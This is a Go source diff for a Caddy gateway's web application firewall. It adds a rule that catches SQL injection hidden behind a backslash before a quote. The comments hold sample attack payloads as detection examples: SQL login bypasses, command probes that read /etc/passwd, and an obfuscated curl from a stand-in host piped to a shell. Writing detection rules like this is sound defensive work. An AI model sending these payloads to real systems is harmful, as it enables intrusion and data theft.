@@ -5,8 +5,9 @@ import "strings"
 // shortPayloadRules refuse the shortest SQL and command injections, which
 // the CRS at paranoia 1 lets through (its SQL rules want more than a
 // quote and a comment, its command rules a longer list of commands than
-// the probes' own): loaded with detectionRules (before the CRS; off with
-// crs_only), on what those read.
+// the probes' own, and libinjection reads \' as an escaped quote): loaded
+// with detectionRules (before the CRS; off with crs_only), on what those
+// read.
 //
 //   - 210150: a quote closed and the rest of the statement commented out,
 //     the login bypass admin'#, admin'--, admin')/*: a value that starts
@@ -17,8 +18,17 @@ import "strings"
 //     line break) and a command that probes a host (shellCommandRule):
 //     "; id", "| id", "&& id", "`id`", "x|id", "; sleep 5", "; ps aux",
 //     "| cat /etc/passwd", "; c'u'rl evil.example/x|s'h'", "; w'h'o'am'i".
+//   - 210152: SQL injection behind a backslash before the quote
+//     (\' OR 1=1 --): libinjection (the CRS's 942100) reads \' as an
+//     escaped quote, as MySQL does, so the rest is inside a string; in
+//     SQL's own strings (PostgreSQL since 9.1, SQLite, SQL Server,
+//     Oracle) a backslash is a character and the quote ends the string.
+//     A value with a backslash before a quote is read by libinjection
+//     once more with its escapes decoded (t:escapeSeqDecode: \' is ').
 var shortPayloadRules = `SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx ^\s*[\w.@+-]*['\"` + "`" + `]\)*\s*(?:#|--|/\*)" "id:210150,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection: a quote then a comment',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
 SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx ` + shellCommandRule() + `" "id:210151,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a probing command',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx \x5c['\"` + "`" + `]" "id:210152,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection behind a backslash before a quote',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',chain"
+	SecRule MATCHED_VAR "@detectSQLi" "t:none,t:escapeSeqDecode,setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
 `
 
 // Commands that probe a host, for rule 210151.
